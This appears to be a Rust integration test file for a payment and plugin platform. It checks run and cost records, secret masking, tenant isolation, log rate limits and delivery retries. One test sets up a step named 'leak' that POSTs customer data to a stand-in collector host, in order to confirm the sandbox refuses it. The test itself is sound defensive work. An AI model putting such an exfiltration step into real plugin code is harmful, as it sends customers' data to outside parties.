//! What is kept of each run and shown: how it ended, what it cost, what it called, what it logged, what was refused.

use kamurj_server::work::records::LINES_A_MINUTE;
use kamurj_tests::clock::minutes;
use kamurj_tests::customer::CUSTOMER;
use kamurj_tests::integrator::Answer;
use kamurj_tests::links::{posts, reads};
use kamurj_tests::look::find_canaries;
use kamurj_tests::records::{adds_deal, deliveries, delivery, paid_in_the_probes_chat, probe, runs};
use kamurj_tests::world::canary;
use kamurj_tests::{World, story};
use reqwest::Method;
use serde_json::{Value, json};

story!(every_run_is_listed_with_how_it_ended_and_what_it_cost, |world| {
    let link = world.customer_picks_the_cake().await;
    world.pays(&link).await;
    world.settles().await;
    let listed = runs(world, &world.bitrix24).await;
    assert!(listed.len() >= 2, "{listed:?}");
    for run in &listed {
        assert_eq!((&run["ended"], &run["call"], &run["run"]), (&json!("done"), &json!("sync"), &json!(1)), "{run}");
        for cost in ["http_requests", "host_calls", "steps", "record_bytes", "memory_bytes"] {
            assert!(run[cost].as_i64() > Some(0), "{cost} of {run}");
        }
        assert!(run["host_calls"].as_i64() > run["steps"].as_i64(), "reading settings is a call and no step: {run}");
        assert_eq!((&run["refused"], run["digest"].as_str().map(str::len)), (&json!(0), Some(64)));
    }
    let calls: Vec<Value> = runs(world, &world.telegram).await.into_iter().map(|run| run["call"].clone()).collect();
    assert!(calls.contains(&json!("inbound")) && calls.contains(&json!("deliver")), "{calls:?}");

    let path = format!("/v1/installations/{}/runs", world.telegram);
    let mut walked = Vec::new();
    let mut next = String::new();
    loop {
        let page = reads(world, &format!("{path}?limit=1{next}")).await.body;
        walked.extend(page["runs"].as_array().expect("a list").clone());
        let Some(cursor) = page["next_cursor"].as_str() else { break };
        next = format!("&cursor={cursor}");
    }
    assert_eq!(walked, runs(world, &world.telegram).await, "page by page it is the same list");
    assert_eq!(reads(world, &format!("{path}?ended=retry")).await.body["runs"], json!([]));
    assert_eq!(reads(world, &format!("{path}?ended=done&limit=200")).await.body["runs"], json!(walked));
    for (query, pointer) in
        [("ended=No!", "/ended"), ("limit=0", "/limit"), ("cursor=7_x", "/cursor"), ("cursor=x", "/cursor")]
    {
        let answer = reads(world, &format!("{path}?{query}")).await;
        answer.is_problem(422, "invalid");
        assert_eq!(answer.pointers(), [pointer]);
    }
});

story!(a_delivery_is_shown_with_every_call_and_no_secret, |world| {
    let link = world.customer_picks_the_cake().await;
    world.pays(&link).await;
    world.settles().await;
    let payment = world.payment().await.id;
    let listed = deliveries(world, &format!("payment={payment}&installation={}", world.telegram)).await;
    let paid = listed.iter().find(|one| one["event"] == "payment.paid").expect("the chat is told").clone();
    assert_eq!((&paid["state"], &paid["plugin"], paid.get("runs")), (&json!("done"), &json!("telegram"), None));
    let whole = delivery(world, paid["id"].as_str().expect("an id")).await;
    let calls = whole["runs"][0]["calls"].as_array().expect("its calls");
    let edit = calls.iter().find(|call| call["step"] == "edit-paid").expect("the message is edited");
    assert_eq!((&edit["method"], &edit["status"], &edit["state"]), (&json!("POST"), &json!(200), &json!("answered")));
    assert!(edit["url"].as_str().is_some_and(|url| url.contains("{{secret:bot_token}}")), "{edit}");
    assert!(edit["request"].as_str().is_some_and(|body| body.contains("12\u{a0}500\u{a0}֏")), "{edit}");
    find_canaries("a delivery", whole.to_string().as_bytes());
    assert!(deliveries(world, "state=owed").await.is_empty() && deliveries(world, "payment=pay_x").await.is_empty());
    let wrong = reads(world, "/v1/deliveries?state=dead").await;
    wrong.is_problem(422, "invalid");
    assert_eq!(wrong.pointers(), ["/state"]);
});

story!(h1_another_merchants_runs_logs_and_deliveries_are_not_there, |world| {
    let link = world.customer_picks_the_cake().await;
    world.pays(&link).await;
    world.settles().await;
    let neighbour = world.flower_shop().await;
    let id = deliveries(world, "").await[0]["id"].as_str().expect("an id").to_owned();
    let asks = |method: Method, path: String| {
        Answer::to(world.asks(&neighbour.api_key, method, &path).json(&json!({ "digest": "0".repeat(64) })))
    };
    for rest in ["runs", "logs"] {
        asks(Method::GET, format!("/v1/installations/{}/{rest}", world.telegram)).await.is_problem(404, "not-found");
    }
    asks(Method::POST, format!("/v1/installations/{}/shadow", world.telegram)).await.is_problem(404, "not-found");
    asks(Method::GET, format!("/v1/deliveries/{id}")).await.is_problem(404, "not-found");
    for rest in ["retry", "replay"] {
        asks(Method::POST, format!("/v1/deliveries/{id}/{rest}")).await.is_problem(404, "not-found");
    }
    let list = Answer::to(world.asks(&neighbour.api_key, Method::GET, "/v1/deliveries")).await;
    assert_eq!(list.body["deliveries"], json!([]));
});

story!(i5_a_call_that_is_not_granted_is_refused_counted_and_shown, |world| {
    let script = json!([
        { "do": "send", "method": "POST", "url": "https://collector.example.com/", "body": "a customer", "step": "leak" },
        { "do": "send", "url": world.sandbox.telegram_url.clone() },
        adds_deal(world, "granted"),
    ]);
    let probing = probe(world, &script).await;
    paid_in_the_probes_chat(world, "A-1").await;
    world.settles().await;
    let run = runs(world, &probing.id).await[0].clone();
    assert_eq!((&run["refused"], &run["ended"], &run["http_requests"]), (&json!(2), &json!("done"), &json!(3)));
    let whole = delivery(world, run["owner"].as_str().expect("an id")).await;
    let failures: Vec<&Value> =
        whole["runs"][0]["calls"].as_array().expect("calls").iter().map(|call| &call["failure"]).collect();
    assert_eq!(failures, [&json!("not-granted"), &json!("not-granted"), &Value::Null]);
});

async fn knock(world: &World, installation: &str, id: usize) {
    let url = format!("{}/hooks/{installation}/update", world.url);
    let request = world.http.post(url).header("x-probe-token", canary("portal secret"));
    let answer = Answer::to(request.body(json!({ "id": id }).to_string())).await;
    assert_eq!(answer.status, 200, "{}", answer.body);
}

story!(an_installation_logs_so_much_a_minute_and_its_log_is_paged, |world| {
    let script = json!([{ "do": "log", "message": "again", "count": 64 }]);
    let probing = probe(world, &script).await;
    for id in 0..12 {
        knock(world, &probing.id, id).await;
        world.settles().await;
    }
    let path = format!("/v1/installations/{}/logs", probing.id);
    let mut lines: Vec<Value> = Vec::new();
    let mut next = String::new();
    loop {
        let page = reads(world, &format!("{path}?limit=200{next}")).await.body;
        lines.extend(page["lines"].as_array().expect("a list").clone());
        let Some(cursor) = page["next_cursor"].as_str() else { break };
        next = format!("&cursor={cursor}");
    }
    let (told, again): (Vec<_>, Vec<_>) =
        lines.iter().partition(|line| line["line"].as_str().is_some_and(|text| text.contains("were not kept")));
    assert_eq!(again.len(), LINES_A_MINUTE);
    assert_eq!(told.len(), 3, "each run whose lines were dropped says so");
    assert!(again.iter().all(|line| line["line"] == "again from=probe" && line["level"] == "warn"));
    world.clock.pass(minutes(1));
    knock(world, &probing.id, 100).await;
    world.settles().await;
    let newest = reads(world, &format!("{path}?limit=1")).await.body["lines"][0].clone();
    assert_eq!(newest["line"], "again from=probe", "a minute later it may log again");
    assert_eq!(reads(world, &format!("{path}?level=error")).await.body["lines"], json!([]));
    reads(world, &format!("{path}?level=loud")).await.is_problem(422, "invalid");
});

story!(f7_a_delivery_that_was_given_up_is_tried_again_through_the_api, |world| {
    let link = world.customer_picks_the_cake().await;
    world.sandbox.telegram.block(CUSTOMER, true).expect("the chat is there");
    world.pays(&link).await;
    world.settles().await;
    let failed = deliveries(world, "state=failed").await;
    assert_eq!((failed.len(), &failed[0]["event"]), (1, &json!("payment.paid")), "{failed:?}");
    let id = failed[0]["id"].as_str().expect("an id");
    let retry = format!("/v1/deliveries/{id}/retry");
    let wrong = posts(world, &retry, &json!({ "reason": 7 })).await;
    wrong.is_problem(422, "invalid");
    world.sandbox.telegram.block(CUSTOMER, false).expect("the chat is there");
    let again = posts(world, &retry, &json!({ "reason": "she unblocked us" })).await;
    assert_eq!((again.status, &again.body["state"]), (200, &json!("owed")), "{}", again.body);
    posts(world, &retry, &json!({})).await.is_problem(409, "not-now");
    world.settles().await;
    assert!(world.exceptions().await.is_empty(), "its exception is closed");
    assert_eq!(world.ending().await.paid_messages, 1);
    let whole = delivery(world, id).await;
    let ended: Vec<&Value> = whole["runs"].as_array().expect("runs").iter().map(|run| &run["ended"]).collect();
    assert_eq!((ended, &whole["state"]), (vec![&json!("unreachable"), &json!("done")], &json!("done")));
    posts(world, &retry, &json!({})).await.is_problem(409, "not-now");
    let empty = Answer::to(world.asks(&world.api_key, Method::POST, "/v1/deliveries/dlv_unknown/retry")).await;
    empty.is_problem(404, "not-found");
});
